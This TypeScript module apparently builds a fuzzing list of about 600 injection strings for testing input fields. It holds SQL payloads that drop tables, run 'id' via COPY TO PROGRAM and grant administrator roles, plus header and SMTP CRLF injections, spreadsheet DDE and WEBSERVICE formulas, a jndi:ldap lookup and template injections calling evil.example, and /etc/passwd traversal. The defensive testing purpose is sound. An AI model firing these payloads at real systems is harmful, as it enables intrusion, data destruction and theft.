import { distinct, everyPair } from "./combine";

const CLOSERS = [
  "'",
  '"',
  "')",
  '")',
  "';",
  "`",
  "\\'",
  "%27",
  "\u2019",
  "\uFF07",
  "']",
  "$$",
  "*/",
];

const SQL = [
  ..." OR 1=1 --| OR 'a'='a| AND 1=0 UNION SELECT version()--| UNION SELECT null,null--".split("|"),
  ..."; DROP TABLE \"Person\";--|; SELECT pg_sleep(5)--| || pg_sleep(5)--|; COPY x TO PROGRAM 'id'--".split(
    "|",
  ),
  ..." ORDER BY 99--|/**/OR/**/1=1#|; UPDATE \"RoleGrant\" SET role='administrator'--| LIMIT 0 OFFSET -1".split(
    "|",
  ),
];

const PATTERNS = [
  "%",
  "_",
  "\\",
  "%%",
  "__",
  "\\%",
  "a%b_c",
  "[a-z]",
  "(a|b)*",
  ".*",
  "(?=a)",
  "^$",
  "(((",
  "+++",
  "?",
];

const OPERATORS = [
  "$gt",
  "$ne",
  "$where",
  "$regex",
  "contains",
  "not",
  "OR",
  "equals",
  "__proto__",
  "constructor",
];

/** What search engines and full-text parsers read as their own language. */
const SEARCHES = [
  ...[
    '"',
    '"unfinished',
    "-",
    "--",
    "- -a",
    "a -",
    "NOT",
    "AND",
    "OR",
    "a AND",
    "NEAR(a b)",
    "a:*",
    "a & | b",
  ],
  ...[
    "!a",
    "!!",
    "<->",
    "a <-> b",
    "&",
    "|",
    "()",
    "(a",
    "a)",
    ":*",
    "a:b:c",
    "*",
    "status = solved",
    "id > 0",
  ],
  ...[
    "_geoRadius(0,0,1)",
    "type = x OR id EXISTS",
    "filter=1",
    "tags IN [a]",
    "a TO b",
    "[* TO *]",
    "~2",
    "a^9",
  ],
];

const LINE_BREAKS = [
  "\r\n",
  "\n",
  "\r",
  "%0d%0a",
  "%0D",
  "\\r\\n",
  "\u2028",
  "\u0085",
  "\u560A",
  "\u0000",
];

const HEADERS = [
  ...[
    "Set-Cookie: a=b",
    "Location: https://evil.example/",
    "Bcc: all@evil.example",
    "Subject: x",
    "X-A: b",
  ],
  ...[
    "Content-Type: text/html\r\n\r\n<script>alert(1)</script>",
    "From: staff@evil.example",
    ".\r\nMAIL FROM:<a>",
  ],
];

const SHEET_STARTS = ["=", "+", "-", "@", "\t=", "\r=", "|", "%", "\uFF1D", "\uFF0B", " ="];
const SHEET_FORMULAS = [
  ...'1+1|cmd|\' /C calc\'!A0|HYPERLINK("https://evil.example","x")|IMPORTXML("https://evil.example","//a")'.split(
    "|",
  ),
  ...'SUM(1+1)*cmd|DDE("cmd";"/C calc";"x")|WEBSERVICE("https://evil.example")'.split("|"),
];

const TEMPLATE_MARKS: readonly (readonly [string, string])[] = [
  ["{{", "}}"],
  ["${", "}"],
  ["#{", "}"],
  ["<%=", "%>"],
  ["{%", "%}"],
  ["[[", "]]"],
  ["{", "}"],
  ["@(", ")"],
  ["$(", ")"],
  ["`", "`"],
  ["{plural, ", "}"],
];
const TEMPLATE_BODIES = [
  ...[
    "7*7",
    "constructor.constructor('return process')()",
    "process.env",
    "self",
    "0",
    "x, select, other {",
  ],
  ...["this.__proto__", "jndi:ldap://evil.example/a", "name", "global.process.exit(1)", "id"],
];

const PATHS = [
  "../",
  "..\\",
  "....//",
  "%2e%2e%2f",
  "..%252f",
  "/etc/passwd\u0000.png",
  "file:///etc/passwd",
  "~root/",
];

/** Strings that are code to something behind a field, grouped by what would run them. */
export const INJECTION_KINDS: Readonly<Record<string, readonly string[]>> = {
  sql: everyPair(CLOSERS, SQL, (closer, rest) => `a${closer}${rest}`),
  pattern: everyPair(PATTERNS, ["", "refund"], (pattern, word) => `${word}${pattern}`),
  operator: OPERATORS.flatMap((name) => [
    `{"${name}":""}`,
    `[${name}]=1`,
    `a[${name}]=`,
    `{"${name}":{"${name}":[]}}`,
  ]),
  search: SEARCHES,
  lineBreak: everyPair(LINE_BREAKS, HEADERS, (lineBreak, header) => `Refund${lineBreak}${header}`),
  spreadsheet: everyPair(SHEET_STARTS, SHEET_FORMULAS, (start, formula) => `${start}${formula}`),
  template: everyPair(
    TEMPLATE_MARKS,
    TEMPLATE_BODIES,
    ([open, close], body) => `${open}${body}${close}`,
  ),
  path: everyPair(PATHS, ["", "etc/passwd"], (path, file) => `${path.repeat(3)}${file}`),
};

/** About 600 strings of every kind. */
export function injectionStrings(): string[] {
  return distinct(Object.values(INJECTION_KINDS).flat());
}
